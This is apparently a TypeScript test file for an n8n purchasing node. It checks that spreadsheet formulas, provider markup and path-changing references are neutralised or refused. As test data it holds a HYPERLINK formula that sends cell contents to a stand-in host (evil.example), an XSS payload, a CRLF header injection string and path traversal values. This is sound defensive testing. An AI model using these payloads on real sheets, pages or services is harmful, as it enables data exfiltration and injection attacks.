import { goOn, useBench } from '../support/kit';
import { airtime, betting } from '../support/products';

const bench = useBench();

const formula = '=HYPERLINK("https://evil.example?"&A1,"Receipt")';
const script = '<script>alert(1)</script><img src=x onerror=alert(1)>';

const odd = { bettingId: '={{ $json.company }}', customerId: '={{ $json.customer }}' };
const answersWith = (path: string, change: Record<string, string>) =>
	bench().addFault(path, { kind: 'reword', change });

describe('Texts from outside that a sheet or a page would run', () => {
	it('a formula in an order or in an answer of the provider stays a text in a sheet', async () => {
		answersWith('/api/fund/betting', { message: formula });
		const result = await bench().buy(
			betting({ ...odd, amount: 500 }),
			[{ company: formula, customer: '1001' }],
			{ node: goOn },
		);
		const cells = result.receipts
			.flatMap((receipt) => Object.values(receipt))
			.filter((cell) => typeof cell === 'string');
		expect(cells.filter((cell) => /^\s*[=+@-]/.test(cell))).toEqual([]);
		expect(JSON.stringify(cells)).toContain(`'=`);
		// The node guards only the output, and sends the provider the text unchanged.
		expect(bench().simulator.stats().requests['POST /api/fund/betting']).toBe(1);
	});

	it('no hint contains markup of the provider, because n8n renders hints', async () => {
		answersWith('/api/topup', { message: script });
		bench().refuse('/api/topup', `Number Block ${script}`, { contains: '8030000002' });
		const result = await bench().buy(
			airtime({ amount: 500 }),
			[{ phone: '08030000001' }, { phone: '08030000002' }],
			{ node: goOn },
		);
		expect(result.receipts).toHaveLength(2);
		expect(result.hints.length).toBeGreaterThan(0);
		expect(JSON.stringify(result.hints)).not.toMatch(/[<>]|alert/);
	});
});

// test/purchase/names.test.ts has every form of a reference.
it.each(['a\r\nX-Admin: 1', '../user', '%2e%2e/user', 'a?amount=1'])(
	'A reference that would change the path is refused, and not sent: %j',
	async (own) => {
		const protection = { repeatProtection: 'reference', reference: '={{ $json.own }}' };
		const result = await bench().buy(airtime({ amount: 500, ...protection }), [
			{ phone: '08030000001', own },
		]);
		expect(result.requests).toEqual([]);
		expect(result.error?.message).toContain('The reference');
	},
);
